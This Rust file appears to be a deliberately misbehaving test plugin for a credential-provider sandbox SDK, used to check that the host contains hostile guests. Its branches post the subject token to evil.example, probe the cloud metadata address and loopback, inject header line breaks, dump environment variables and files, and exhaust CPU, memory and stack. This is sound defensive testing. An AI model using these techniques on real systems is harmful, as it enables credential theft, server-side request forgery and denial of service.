//! A provider that misbehaves as the parameter `behaviour` tells it.

use gatepass_sdk::{
    ClusterAccess, ClusterReference, Credential, Description, Error, Exchange, Facts, Host, Level,
    Material, Provider, RegistryTarget, Request, SourceKind, Subject, Verb, Wishes, egress,
};
use std::collections::BTreeMap;
use std::hint::black_box;
use std::time::{Duration, SystemTime};

const GRANTED: &str = "https://granted.example/";
const GRANTED_FILE: &str = "/run/granted";

/// The provider.
#[derive(Debug, Default)]
pub struct Hostile;

impl Provider for Hostile {
    fn describe(&self) -> Description {
        Description {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            summary: "misbehaves as it is told".into(),
            parameters: r#"{"type":"object","properties":{"behaviour":{"type":"string"}}}"#.into(),
            wishes: Wishes {
                hosts: vec![
                    GRANTED.trim_end_matches('/').into(),
                    "https://granted.example:8443".into(),
                    "https://localhost:9443".into(),
                    "https://wished.example".into(),
                    "http://169.254.169.254".into(),
                ],
                audiences: vec!["hostile".into()],
                environment: vec![
                    "GATEPASS_TEST_GRANTED".into(),
                    "GATEPASS_TEST_UNGRANTED".into(),
                ],
                files: vec![GRANTED_FILE.into(), "/etc/hostname".into()],
                ..Wishes::default()
            },
            verbs: vec![
                Verb::Discover,
                Verb::Audience,
                Verb::Identity,
                Verb::Exchange,
                Verb::Registry,
                Verb::RegistryCredentials,
                Verb::Cluster,
                Verb::RestConfig,
            ],
            sources: vec![
                SourceKind::SubjectToken,
                SourceKind::Ambient,
                SourceKind::Credential,
            ],
            ..Description::default()
        }
    }

    fn discover(&self, host: &dyn Host) -> Result<BTreeMap<String, String>, Error> {
        Ok(BTreeMap::from([(
            "time".to_owned(),
            format!("{:?}", host.now()),
        )]))
    }

    fn audience(&self, _: &Subject, _: &Facts, request: &Request) -> Result<Vec<String>, Error> {
        match behaviour(request) {
            "foreign-audience" => Ok(vec!["https://kubernetes.default.svc".into()]),
            "no-audience" => Ok(Vec::new()),
            "empty-audience" => Ok(vec![String::new()]),
            _ => Ok(vec!["hostile".into()]),
        }
    }

    fn identity(&self, _: &Subject, facts: &Facts, request: &Request) -> Result<String, Error> {
        match behaviour(request) {
            "facts-forever" => Err(Error::needs_facts()),
            "facts" if facts.is_none() => Err(Error::needs_facts()),
            "facts" => Ok(format!("{facts:?}")),
            "pure-egress" => pure_egress(),
            "pure-rsa" => pure_rsa(),
            // Each link of a chain but the one that leads back becomes another.
            "link" => Ok(request.region.clone().unwrap_or_default()),
            "control-characters" => Err(Error::invalid_configuration("a\u{1b}[31mb\nc\0d")),
            _ => Ok("hostile".into()),
        }
    }

    fn exchange(&self, exchange: &Exchange, host: &dyn Host) -> Result<Credential, Error> {
        let hour = host.now() + Duration::from_secs(3600);
        match behaviour(&exchange.request) {
            "spin" => spin(),
            "spin-in-bulk" => spin_in_bulk(),
            "allocate" => allocate(),
            "recurse" => Err(Error::internal(recurse(1).to_string())),
            "sleep" => {
                std::thread::sleep(Duration::from_secs(3600));
                Err(Error::internal("awake"))
            }
            "panic" => fall_over(),
            "flood-the-log" => {
                (0..1_000).for_each(|line| host.log(Level::Error, &format!("line {line}")));
                Ok(Credential::bearer("flooded", hour))
            }
            "send-forever" => loop {
                host.send(egress::Request::get(GRANTED).build())?;
            },
            "send-ungranted" => {
                let refused = host.send(egress::Request::get("https://evil.example/").build());
                Err(Error::unavailable(format!(
                    "try again: {}",
                    refused.is_ok()
                )))
            }
            "send-token-often" => {
                let request = (0..100_000).fold(egress::Request::post(GRANTED), |request, _| {
                    request.body_token()
                });
                send(host, request.build())
            }
            "line-break" => Ok(Credential::bearer("a\r\nb: c", hour)),
            "send-wished" => send(
                host,
                egress::Request::get("https://wished.example/").build(),
            ),
            "send-to-port" => send(
                host,
                egress::Request::get("https://granted.example:8443/x").build(),
            ),
            "send-to-loopback" => send(
                host,
                egress::Request::get("https://localhost:9443/").build(),
            ),
            "send-to-metadata" => send(
                host,
                egress::Request::get("http://169.254.169.254/latest").build(),
            ),
            "send-to-address" => send(host, egress::Request::get("https://127.0.0.1/").build()),
            "send-plain" => send(
                host,
                egress::Request::get("http://granted.example/").build(),
            ),
            "send-host-header" => send(
                host,
                egress::Request::get(GRANTED)
                    .header("Host", "evil.example")
                    .build(),
            ),
            "send-line-break" => send(
                host,
                egress::Request::get(GRANTED)
                    .header("x", "a\r\nb: c")
                    .build(),
            ),
            "send-much" => send(
                host,
                egress::Request::post(GRANTED)
                    .body(vec![b'x'; 1 << 20])
                    .build(),
            ),
            "refused-then-panic" => {
                let _ = host.send(egress::Request::get("https://evil.example/").build());
                fall_over()
            }
            "refused-then-sleep" => {
                let _ = host.send(egress::Request::get("https://evil.example/").build());
                std::thread::sleep(Duration::from_secs(3600));
                Err(Error::internal("awake"))
            }
            "echo-token" => {
                let request = egress::Request::post(GRANTED).form_token("t").build();
                let answer = host.send(request)?;
                let body = String::from_utf8_lossy(answer.body()).into_owned();
                Ok(Credential::bearer("t", hour).attribute("echo", body))
            }
            "files" => Ok([
                GRANTED_FILE,
                "/etc/hostname",
                "/run/../run/granted",
                "/run/other",
            ]
            .into_iter()
            .fold(Credential::bearer("t", hour), |credential, path| {
                let content = host.file(path).map_or_else(
                    |error| format!("{:?}", error.kind()),
                    |content| String::from_utf8_lossy(&content).into_owned(),
                );
                credential.attribute(path, content)
            })),
            "link" => {
                let from = match &exchange.source {
                    gatepass_sdk::Source::Credential(earlier) => match &earlier.material {
                        Material::Bearer(token) => token.expose().to_owned(),
                        Material::Aws(keys) => keys.access_key_id.clone(),
                        other => format!("{other:?}"),
                    },
                    other => format!("{other:?}"),
                };
                let token = format!("{from}>{}", exchange.identity);
                Ok(Credential::bearer(token, hour))
            }
            "steal-token" => {
                let request = egress::Request::post("https://evil.example/")
                    .form_token("t")
                    .build();
                send(host, request)
            }
            "send-token" => send(host, egress::Request::post(GRANTED).form_token("t").build()),
            "sign" => host
                .sign_jwt("{}")
                .map(|token| Credential::bearer(token, hour)),
            "sign-rsa-often" => Ok((1..=10).fold(
                Credential::bearer("t", hour),
                |credential, number| {
                    let signed = host.sign_rs256(&"canary-key".into(), b"canary-message");
                    let answer = signed.map_or_else(|error| error.to_string(), |_| "signed".into());
                    credential.attribute(number.to_string(), answer)
                },
            )),
            "expired" => Ok(Credential::bearer(
                "late",
                host.now() - Duration::from_secs(1),
            )),
            "endless" => Ok(Credential::bearer(
                "endless",
                SystemTime::UNIX_EPOCH + Duration::from_secs(u64::MAX / 4),
            )),
            "empty" => Ok(Credential::bearer("", hour)),
            "without-expiry" => Ok(Credential {
                material: Material::Bearer("t".into()),
                expires_at: None,
                attributes: Vec::new(),
            }),
            "huge" => Ok(Credential::bearer("x".repeat(8 << 20), hour)),
            "million-attributes" => Ok((0..1_000_000)
                .fold(Credential::bearer("t", hour), |credential, index| {
                    credential.attribute(index.to_string(), "x")
                })),
            "throttled-forever" => {
                Err(Error::throttled("slow down").retry_after(Some(Duration::from_secs(86_400))))
            }
            "environment" => Ok(environment(host).into_iter().fold(
                Credential::bearer("t", hour),
                |credential, (name, value)| credential.attribute(name, value),
            )),
            "tell-token" => Ok(Credential::subject_token()),
            _ => Ok(Credential::bearer("good", hour)),
        }
    }

    fn registry(
        &self,
        repository: &str,
        _: &Facts,
        request: &Request,
    ) -> Result<RegistryTarget, Error> {
        let mut access = request.clone();
        if behaviour(request) == "broken-access" {
            access.region = Some(String::new());
        }
        Ok(RegistryTarget {
            host: match behaviour(request) {
                "broken-host" => "evil.example/path".into(),
                "other-host" => "evil.example".into(),
                _ => repository.split('/').next().unwrap_or_default().into(),
            },
            cache_input: "hostile".into(),
            access,
        })
    }

    fn registry_credentials(
        &self,
        _: &RegistryTarget,
        access: &Credential,
        _: &Facts,
        request: &Request,
        host: &dyn Host,
    ) -> Result<Credential, Error> {
        match behaviour(request) {
            "tell-token" => {
                let seen = format!("{:?}", access.material);
                Ok(Credential::subject_token().attribute("seen", seen))
            }
            "custom-login" => Ok(Credential::new(
                Material::Custom(vec![("a".into(), "b".into())]),
                host.now() + Duration::from_secs(60),
            )),
            _ => Ok(access.clone()),
        }
    }

    fn cluster(
        &self,
        _: &ClusterReference,
        _: &Facts,
        request: &Request,
    ) -> Result<Vec<Request>, Error> {
        match behaviour(request) {
            "no-access" => Ok(Vec::new()),
            "much-access" => Ok(vec![request.clone(); 1000]),
            _ => Ok(vec![request.clone()]),
        }
    }

    fn rest_config(
        &self,
        cluster: &ClusterReference,
        access: &[Credential],
        _: &Facts,
        request: &Request,
        host: &dyn Host,
    ) -> Result<ClusterAccess, Error> {
        let server = match behaviour(request) {
            "plain-server" => Some("http://evil.example".into()),
            "tell-token" => Some("https://evil.example".into()),
            _ => cluster.address.clone(),
        };
        Ok(ClusterAccess {
            server: server.unwrap_or_default(),
            ca_certificate: (behaviour(request) == "broken-ca").then(|| "nonsense".into()),
            material: access
                .first()
                .map_or(Material::SubjectToken, |access| access.material.clone()),
            expires_at: Some(host.now() + Duration::from_secs(60)),
        })
    }
}

fn behaviour(request: &Request) -> &str {
    request
        .parameters
        .get("behaviour")
        .map_or("", String::as_str)
}

fn send(host: &dyn Host, request: egress::Request) -> Result<Credential, Error> {
    let status = host.send(request)?.status();
    Ok(Credential::bearer(
        format!("status-{status}"),
        host.now() + Duration::from_secs(3600),
    ))
}

/// What the guest sees of the environment, the arguments and the file system.
fn environment(_: &dyn Host) -> BTreeMap<String, String> {
    let variables: Vec<String> = std::env::vars()
        .map(|(name, value)| format!("{name}={value}"))
        .collect();
    let listed = std::fs::read_dir("/")
        .map_or_else(|_| "denied".into(), |entries| entries.count().to_string());
    BTreeMap::from([
        ("variables".to_owned(), variables.join(",")),
        ("arguments".to_owned(), std::env::args().count().to_string()),
        ("files".to_owned(), listed),
    ])
}

/// A pure verb has no host to send with, so that it calls the import itself.
fn pure_egress() -> Result<String, Error> {
    use gatepass_sdk::generated::gatepass::provider::egress::{Request, send};
    let request = Request {
        method: "GET".into(),
        url: GRANTED.into(),
        headers: Vec::new(),
        body: Vec::new(),
        timeout: None,
    };
    match send(&request) {
        Ok(_) => Ok("sent".into()),
        Err(error) => Ok(format!("refused: {}", error.message)),
    }
}

/// As [`pure_egress`].
fn pure_rsa() -> Result<String, Error> {
    match gatepass_sdk::generated::gatepass::provider::rsa::sign_rs256("canary-key", b"") {
        Ok(_) => Ok("signed".into()),
        Err(error) => Ok(format!("refused: {}", error.message)),
    }
}

#[expect(clippy::panic, reason = "it is what the host must survive")]
fn fall_over() -> Result<Credential, Error> {
    panic!("canary-panic")
}

fn spin() -> Result<Credential, Error> {
    let mut count = 0_u64;
    loop {
        count = black_box(count.wrapping_add(1));
    }
}

/// Bulk memory operations check the time once each.
fn spin_in_bulk() -> Result<Credential, Error> {
    let mut memory = vec![1_u8; 16 << 20];
    loop {
        memory.copy_within(0..8 << 20, 8 << 20);
        black_box(&memory);
    }
}

fn allocate() -> Result<Credential, Error> {
    let mut all = Vec::new();
    loop {
        all.push(vec![1_u8; 1 << 20]);
        black_box(&all);
    }
}

fn recurse(depth: u64) -> u64 {
    match black_box(depth) {
        0 => 0,
        depth => recurse(depth.wrapping_add(1)).wrapping_add(black_box(1)),
    }
}

gatepass_sdk::export!(Hostile);
